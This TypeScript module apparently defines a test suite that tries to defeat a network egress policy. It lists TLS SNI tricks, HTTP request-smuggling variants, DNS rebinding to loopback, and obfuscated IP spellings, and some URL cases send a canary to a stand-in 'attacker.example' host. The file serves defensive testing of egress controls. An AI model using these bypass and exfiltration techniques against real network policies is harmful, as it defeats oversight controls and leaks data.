/** TLS and HTTP on, beside and instead of the one connection that the policy allows. */
import { REBIND, REBIND_CNAME } from '../plan.ts';
import type { Attack } from './types.ts';

const HELLOS = [
  'hello-random',
  'hello-session',
  'hello-extension',
  'hello-padding',
  'hello-two-names',
  'hello-nul-name',
  'hello-early-data',
  'hello-ech',
  'not-tls',
  'ssh-banner',
  'sni-below',
  'alpn-bytes',
  'sni-elsewhere',
  'sni-elsewhere-v6',
  'no-sni-elsewhere',
  'sni-private',
] as const;

/** Some server is told the canary when nobody stands between. */
const SESSIONS = ['sni-metadata', 'no-sni', 'sni-other', 'sni-by-address', 'sni-listener', 'sni-listener-v6'] as const;

const REQUESTS = [
  'other-host',
  'second-other-host',
  'pipelined-other-host',
  'second-other-path',
  'two-hosts',
  'two-hosts-reversed',
  'no-host',
  'host-port',
  'host-userinfo',
  'absolute-form',
  'absolute-form-http',
  'method',
  'method-override',
  'path',
  'path-dots',
  'path-encoded-dots',
  'path-double-encoded',
  'path-backslash',
  'path-fragment',
  'connect',
  'trace',
  'cl-te',
  'te-twice',
  'te-space',
  'te-unknown',
  'cl-twice',
  'cl-sign',
  'cl-list',
  'obs-fold',
  'nul-header',
  'cr-header',
  'header-name',
  'chunk-extension',
  'chunk-size',
  'trailer',
  'hop-by-hop',
  'proxy-header',
  'te-header',
  'upgrade-h2c',
  'upgrade-unknown',
  'websocket-path',
  'http2-preface',
  'http-0.9',
  'http-1.2',
  'http-10-no-host',
  'after-close',
  'body-of-nothing',
  'doh-get',
  'plain-on-443',
  'plain-on-80',
] as const;

const LOOPBACK: Record<string, string> = {
  'loopback.rebind.example': 'tcp 127.0.0.1:443',
  'loopback-other.rebind.example': 'tcp 127.66.0.1:443',
  'loopback6.rebind.example': 'tcp ::1:443',
};

function rebind(name: string, targets: readonly string[]): Attack {
  const daemon = LOOPBACK[name];
  return {
    name: `name/${name}`,
    run: ['name.py', name],
    control: daemon === undefined ? 'packets' : 'heard',
    ...(daemon === undefined
      ? { targets: targets.map((address) => address.replace(/^::ffff:(?=\d+\.)/, '')) }
      : { daemon }),
  };
}

/** Spellings of an address in a URL; `V4` and `<form>` become the attack's own address. */
const URLS: readonly (readonly [name: string, url: string, host?: string])[] = [
  ['plain', 'https://V4/CANARY'],
  ['plain with an allowed Host', 'https://V4/ok/CANARY', 'allowed.example'],
  ['decimal', 'http://<decimal>/CANARY'],
  ['hexadecimal', 'http://<hexadecimal>/CANARY'],
  ['octal', 'http://<octal>/CANARY'],
  ['short', 'http://<short>/CANARY'],
  ['mapped', 'http://[::ffff:V4]/CANARY'],
  ['name of the attacker', 'https://CANARY.attacker.example/CANARY'],
  ['name of the attacker, port 8443', 'https://CANARY.attacker.example:8443/CANARY'],
  ['allowed name, port 8443', 'https://allowed.example:8443/ok/CANARY'],
];

export const WEB: readonly Attack[] = [
  ...HELLOS.map((variant): Attack => ({ name: `tls/${variant}`, run: ['tls.py', variant], control: 'packets' })),
  ...SESSIONS.map((variant): Attack => ({ name: `tls/${variant}`, run: ['tls.py', variant], control: 'payload' })),
  ...REQUESTS.map((variant): Attack => ({ name: `http/${variant}`, run: ['http1.py', variant], control: 'payload' })),
  ...Object.entries(REBIND).map(([name, targets]) => rebind(name, targets)),
  rebind(REBIND_CNAME.name, [REBIND_CNAME.address]),
  ...URLS.map(
    ([name, url, host]): Attack => ({
      name: `address/${name}`,
      run: ['address.py', url, ...(host === undefined ? [] : [host])],
      control: 'payload',
    }),
  ),
];
